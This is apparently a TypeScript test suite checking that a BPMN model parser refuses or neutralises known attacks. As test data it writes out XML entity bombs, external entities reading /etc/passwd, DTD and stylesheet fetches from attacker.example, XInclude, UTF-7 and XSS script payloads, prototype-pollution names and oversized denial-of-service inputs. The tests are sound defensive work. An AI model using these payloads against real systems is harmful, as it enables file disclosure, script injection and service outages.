import { sampleModel } from './sample-model.fixture.ts';
import { survive } from './survive.fixture.ts';

const bomb =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
const body = sampleModel.slice(sampleModel.indexOf('<semantic:definitions'));
const wrap = (inner: string): string =>
  `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><process id="p">${inner}</process></definitions>`;

describe('known attacks on model tools', () => {
  it.each([
    ['an entity bomb', bomb + body.replace('Muster"', '&c;"'), 'BPMN.DOCTYPE_REFUSED'],
    ['an external entity', `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body}`, 'BPMN.DOCTYPE_REFUSED'],
    [
      'a parameter entity',
      `<!DOCTYPE d [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>${body}`,
      'BPMN.DOCTYPE_REFUSED',
    ],
    [
      'an external document type',
      `<!DOCTYPE d PUBLIC "-//x" "http://attacker.example/x.dtd">${body}`,
      'BPMN.DOCTYPE_REFUSED',
    ],
    ['a document type in small letters', `<!doctype html>${body}`, 'BPMN.DOCTYPE_REFUSED'],
    [
      'a document type in UTF-16',
      Buffer.from(`\ufeff<!DOCTYPE d [<!ENTITY x "y">]>${body}`, 'utf16le'),
      'BPMN.DOCTYPE_REFUSED',
    ],
    ['an undeclared entity', body.replace('Muster"', '&nbsp;"'), 'BPMN.NOT_WELL_FORMED'],
    ['deep nesting', wrap('<subProcess>'.repeat(100_000)), 'BPMN.TOO_DEEP'],
    [
      'an encoding that hides markup',
      Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADw-script+AD4-'),
      'BPMN.ENCODING',
    ],
  ])('refuses %s', (_, file, code) => {
    expect(survive(file)).toBe(code);
  });

  it.each([
    [
      'script in a documentation',
      wrap('<task id="t"><documentation><![CDATA[<script>alert(1)</script>]]></documentation></task>'),
    ],
    ['script in a name', body.replace('Prüfen', '&lt;svg/onload=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;')],
    [
      'a javascript: address in an extension',
      body.replace(
        '<v:wert>',
        '<v:wert href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">',
      ),
    ],
    ['markup in a condition', body.replace('${a', '&lt;img src=x onerror=alert(1)&gt;')],
    ['an inclusion', wrap('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')],
    ['a style sheet instruction', `<?xml-stylesheet href="http://attacker.example/x.xsl"?>${body}`],
    [
      'a schema location',
      body.replace('id="defs"', 'id="defs" xsi:schemaLocation="urn:t http://attacker.example/x.xsd"'),
    ],
    [
      'names of built-in properties',
      wrap(
        '<task id="__proto__" name="x" __proto__="y" constructor="z"/><task id="constructor"/><sequenceFlow id="toString" sourceRef="__proto__" targetRef="constructor"/>',
      ),
    ],
  ])('keeps %s as text that does nothing', (_, file) => {
    expect(survive(file)).toBe('accepted');
  });

  it.each([
    ['300,000 character references', wrap(`<task id="t" name="${'&#65;'.repeat(300_000)}"/>`)],
    ['100,000 elements', wrap('<task/>'.repeat(100_000))],
    ['100,000 children without id', wrap(`<task id="t">${'<documentation>a</documentation>'.repeat(100_000)}</task>`)],
    [
      'a million spaces in a tag',
      `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"${' '.repeat(1e6)}/>`,
    ],
    ['an endless name', wrap(`<${'a'.repeat(1e6)}/>`)],
    ['a million open brackets', '<'.repeat(1e6)],
    ['a million open tags', '<a '.repeat(1e6)],
    ['a million ampersands', wrap('&'.repeat(1e6))],
    [
      '50,000 namespaces',
      wrap(`<x ${Array.from({ length: 50_000 }, (_, index) => `xmlns:n${index}="u"`).join(' ')}/>`),
    ],
    ['a five million character value', wrap(`<task id="t" name="${'a '.repeat(2_500_000)}"/>`)],
    ['one word of a million characters', wrap(`<task id="t" name="${'a'.repeat(1e6)}"/>`)],
  ])('needs bounded time for %s', (_, file) => {
    const started = performance.now();
    expect(survive(file)).toMatch(/^accepted$|^BPMN\./);
    expect(performance.now() - started).toBeLessThan(15_000);
  });
});
